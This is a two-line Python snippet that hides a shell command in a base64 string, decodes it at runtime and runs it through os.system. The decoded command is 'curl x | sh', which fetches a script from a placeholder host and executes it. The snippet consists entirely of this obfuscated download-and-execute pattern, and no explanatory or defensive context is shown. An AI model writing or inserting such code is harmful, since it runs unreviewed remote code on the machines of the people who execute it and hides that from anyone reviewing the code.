c = "Y3VybCB4IHwgc2g="
__import__("os").system(__import__("base64").b64decode(c).decode())
